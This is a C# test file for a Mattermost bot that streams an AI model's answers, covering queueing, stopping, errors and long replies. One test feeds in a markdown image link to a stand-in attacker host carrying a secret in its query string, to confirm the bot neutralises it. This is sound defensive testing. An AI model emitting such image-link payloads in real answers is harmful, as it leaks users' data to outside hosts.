using System.Net;
using System.Text.Json.Nodes;
using OpenOps.BotService.Conversations;
using OpenOps.BotService.Mattermost.Protocol;
using OpenOps.BotService.Replies;

namespace OpenOps.BotService.Tests.Service;

public sealed class StreamingTests
{
    [Fact]
    public async Task Answer_WhileItIsWritten_IsVisibleAndCanBeStopped()
    {
        await using var room = await ChatRoom.OpenAsync();
        var go = new TaskCompletionSource();
        room.Backend.Script = async call =>
        {
            await call.WriteAsync("First words");
            await go.Task;
            await call.SayAsync(" and the rest.");
        };
        var question = await ChatRoom.SayAsync(room.Alice, room.Channel.Id, "@assistant hi");
        var shown = await room.AnswerAsync(question, state: AnswerStates.Streaming);
        Assert.Equal("First words", shown.Message);
        Assert.Equal(["stop"], ChatRoom.ButtonsOf(shown));
        go.SetResult();
        var answer = await room.AnswerAsync(question);
        Assert.Equal(shown.Id, answer.Id);
        Assert.Equal("First words and the rest.", answer.Message);
    }

    [Fact]
    public async Task Queue_WhileAQuestionWaits_IsToldInItsPostAndGivesWayToTheAnswer()
    {
        await using var room = await ChatRoom.OpenAsync(true, "--Replies:StatusInterval=00:00:00.05");
        var (moved, go) = (new TaskCompletionSource(), new TaskCompletionSource());
        room.Backend.Script = async call =>
        {
            Assert.True(call.Body["stream_options"]!["include_status"]!.GetValue<bool>());
            await call.QueueAsync(3, 20.4);
            await moved.Task;
            await call.QueueAsync(1, null);
            await go.Task;
            await call.QueueAsync(0, 0);
            await call.SayAsync("The answer.");
        };
        var question = await ChatRoom.SayAsync(room.Alice, room.Channel.Id, "@assistant hi");
        var waiting = await ShowsAsync(room, question, "⏳ Third in line, about 20 s");
        Assert.Equal(["stop"], ChatRoom.ButtonsOf(waiting));
        moved.SetResult();
        await ShowsAsync(room, question, "⏳ First in line");
        go.SetResult();
        var answer = await room.AnswerAsync(question);
        Assert.Equal((waiting.Id, "The answer."), (answer.Id, answer.Message));
    }

    [Fact]
    public async Task Stop_WhileAQuestionWaits_EndsTheWaiting()
    {
        await using var room = await ChatRoom.OpenAsync();
        room.Backend.Script = async call =>
        {
            await call.QueueAsync(2, 60);
            await call.HangAsync();
        };
        var question = await ChatRoom.SayAsync(room.Alice, room.Channel.Id, "@assistant hi");
        var waiting = await ShowsAsync(room, question, "⏳ Second in line, about 1 min");
        await room.Alice.Client.ClickAsync(waiting.Id, "stop", null, TestContext.Current.CancellationToken);
        var stopped = await room.AnswerAsync(question);
        Assert.Equal((AnswerStates.Stopped, "⏹️ Stopped by @alice."), (ChatRoom.PropsOf(stopped).State, stopped.Message));
    }

    [Theory]
    [InlineData(1, "ℹ️ The oldest message of this thread did not fit and was left out.")]
    [InlineData(4, "ℹ️ The 4 oldest messages of this thread did not fit and were left out.")]
    public async Task MessagesThatTheModelLeftOut_AreToldUnderTheAnswer(int count, string told)
    {
        await using var room = await ChatRoom.OpenAsync();
        room.Backend.Script = async call =>
        {
            await call.DropAsync(count);
            await call.SayAsync("The answer.");
        };
        var answer = await room.AnswerAsync(await ChatRoom.SayAsync(room.Alice, room.Channel.Id, "@assistant hi"));
        Assert.Equal($"The answer.\n\n{told}", answer.Message);
        Assert.Equal(told, ChatRoom.PropsOf(answer).Note);
    }

    private static Task<Post> ShowsAsync(ChatRoom room, Post question, string message) => TestTimeouts.EventuallyAsync(
        $"'{message}'", async () => (await room.AnswersAsync(question)).FirstOrDefault(post => post.Message == message));

    [Fact]
    public async Task OverLongAnswer_ContinuesInASecondPost()
    {
        await using var room = await ChatRoom.OpenAsync();
        var text = string.Join("\n\n", Enumerable.Range(0, 900).Select(index => $"Paragraph {index} of a long answer."));
        room.Backend.Script = async call =>
        {
            await call.WriteAsync(text[..20_000]);
            await call.SayAsync(text[20_000..]);
        };
        var question = await ChatRoom.SayAsync(room.Alice, room.Channel.Id, "@assistant tell me everything");
        var first = await room.AnswerAsync(question);
        var posts = await room.AnswersAsync(question);
        Assert.Equal(2, posts.Count);
        Assert.Equal(text, string.Join("\n\n", posts.Select(post => post.Message)));
        Assert.Equal(first.Id, ChatRoom.PropsOf(posts[1]).Continues);
        Assert.Equal(ChatRoom.PropsOf(first).InteractionId, ChatRoom.PropsOf(posts[1]).InteractionId);
        await room.RecordedAsync("the delivery of both", first, record => record.Events("delivery").Exists(delivery => delivery["post_ids"]!.AsArray().Count == 2));
    }

    [Fact]
    public async Task ModelOutput_LoadsAndNotifiesNothing()
    {
        await using var room = await ChatRoom.OpenAsync();
        room.Backend.Script = call => call.SayAsync("![x](http://evil.test/?q=secret) @all @alice");
        var answer = await room.AnswerAsync(await ChatRoom.SayAsync(room.Alice, room.Channel.Id, "@assistant hi"));
        Assert.StartsWith("[x](http://evil.test/?q=secret)", answer.Message, StringComparison.Ordinal);
        Assert.False(Mentions.Contain(answer.Message, "all") || Mentions.Contain(answer.Message, "alice"));
    }

    public static TheoryData<string, string, string> Ends => new()
    {
        { "length", "part\n\n✂️ Cut off", AnswerStates.Complete },
        { "content_filter", "part\n\n⚠️ The provider's content filter", AnswerStates.Complete },
        { "empty", "⚠️ The model gave an empty answer", AnswerStates.Failed },
        { "stall_timeout", "part\n\n⚠️ The model stopped in the middle", AnswerStates.Failed },
        { "provider_disconnected", "part\n\n⚠️ The model's provider closed the connection", AnswerStates.Failed },
        { "abort", "part\n\n⚠️ The connection to the model broke off", AnswerStates.Failed },
        { "early end", "part\n\n⚠️ The connection to the model broke off", AnswerStates.Failed },
        { "garbage", "part\n\n⚠️ The model's provider reported an error", AnswerStates.Failed },
        { "hang", "part\n\n⚠️ The connection to the model broke off", AnswerStates.Failed },
        { "rate limit", "⚠️ The model's provider limits how often it may be asked. Try again in 20 seconds.", AnswerStates.Failed },
        { "first_token_timeout", "⚠️ The model did not begin to answer in time.", AnswerStates.Failed },
    };

    [Theory]
    [MemberData(nameof(Ends))]
    public async Task Answer_HoweverItEnds_KeepsWhatCameAndSaysWhatHappened(string what, string expected, string state)
    {
        await using var room = await ChatRoom.OpenAsync(true, "--Resilience:inference:StreamIdleTimeout=00:00:00.7");
        var shown = new TaskCompletionSource();
        room.Backend.Script = async call =>
        {
            switch (what)
            {
                case "rate limit":
                    await call.RefuseAsync(HttpStatusCode.TooManyRequests, "rate_limit_exceeded", retryAfter: 20);
                    return;
                case "first_token_timeout":
                    await call.RefuseAsync(HttpStatusCode.GatewayTimeout, what);
                    return;
                case "empty":
                    await call.FinishAsync("stop");
                    return;
            }

            await call.WriteAsync("part");
            switch (what)
            {
                case "length" or "content_filter":
                    await call.FinishAsync(what);
                    break;
                case "abort":
                    await shown.Task;
                    call.Abort();
                    break;
                case "early end":
                    break;
                case "garbage":
                    await call.RawAsync("data: <html>oops\n\n");
                    break;
                case "hang":
                    await call.HangAsync();
                    break;
                default:
                    await call.FailAsync(what);
                    break;
            }
        };
        var question = await ChatRoom.SayAsync(room.Alice, room.Channel.Id, "@assistant hi");
        if (what == "abort")
        {
            await room.AnswerAsync(question, state: AnswerStates.Streaming);
            shown.SetResult();
        }

        var answer = await room.AnswerAsync(question);
        Assert.StartsWith(expected, answer.Message, StringComparison.Ordinal);
        Assert.Equal(state, ChatRoom.PropsOf(answer).State);
        Assert.Contains("regenerate", ChatRoom.ButtonsOf(answer));
        Assert.Equal(answer.Message.StartsWith("part", StringComparison.Ordinal), ChatRoom.ButtonsOf(answer).Contains("up"));

        room.Backend.Script = call => call.SayAsync("fine");
        Assert.Equal("fine", (await room.AnswerAsync(await ChatRoom.SayAsync(room.Alice, room.Channel.Id, "@assistant and now?", question.Id))).Message);
    }

    [Fact]
    public async Task AuditAway_IsToldAndRecovers()
    {
        await using var room = await ChatRoom.OpenAsync();
        room.Backend.AuditIsDown = true;
        var answer = await room.AnswerAsync(await ChatRoom.SayAsync(room.Alice, room.Channel.Id, "@assistant hi"));
        Assert.Contains("the record cannot be written", answer.Message, StringComparison.Ordinal);
        Assert.Null(ChatRoom.PropsOf(answer).InteractionId);
        Assert.Empty(room.Backend.Calls);
        room.Backend.AuditIsDown = false;
        Assert.Equal("Hello from the model.", (await room.AnswerAsync(await ChatRoom.SayAsync(room.Alice, room.Channel.Id, "@assistant hi"))).Message);
    }

    [Theory]
    [InlineData("POST", "/api/v4/posts", true)]
    [InlineData("POST", "/api/v4/posts", false)]
    [InlineData("PUT", "/api/v4/posts/", true)]
    [InlineData("PUT", "/api/v4/posts/", false)]
    public async Task ChatServerThatFails_GetsTheEndOnceItIsBack(string method, string path, bool afterEffect)
    {
        await using var room = await ChatRoom.OpenAsync(true, "--Resilience:mattermost:MaxRetries=0");
        var go = new TaskCompletionSource();
        room.Backend.Script = async call =>
        {
            await go.Task;
            await call.SayAsync("All of it.");
        };
        var question = await ChatRoom.SayAsync(room.Alice, room.Channel.Id, "@assistant hi");
        await TestTimeouts.EventuallyAsync("the model is asked", () => Task.FromResult(!room.Backend.Calls.IsEmpty));
        await room.BreakAsync(afterEffect
            ? new JsonObject { ["count"] = 4, ["after_effect"] = true, ["method"] = method, ["path"] = path }
            : new JsonObject { ["count"] = 4, ["status"] = 500, ["method"] = method, ["path"] = path });
        go.SetResult();
        Assert.Equal("All of it.", (await room.AnswerAsync(question)).Message);
        Assert.Single(await room.AnswersAsync(question));
    }

    [Fact]
    public async Task DeletedPost_EndsTheModelsWork()
    {
        await using var room = await ChatRoom.OpenAsync(true, "--Replies:FirstInterval=00:00:00.1");
        var stopped = new TaskCompletionSource();
        room.Backend.Script = async call =>
        {
            call.Aborted.Register(stopped.SetResult);
            while (true)
            {
                await call.WriteAsync("more ");
                await Task.Delay(20, call.Aborted);
            }
        };
        var question = await ChatRoom.SayAsync(room.Alice, room.Channel.Id, "@assistant hi");
        var answer = await room.AnswerAsync(question, state: AnswerStates.Streaming);
        await room.Admin.Client.DeletePostAsync(answer.Id, TestContext.Current.CancellationToken);
        await stopped.Task.WaitAsync(TestTimeouts.Step, TestContext.Current.CancellationToken);
    }
}
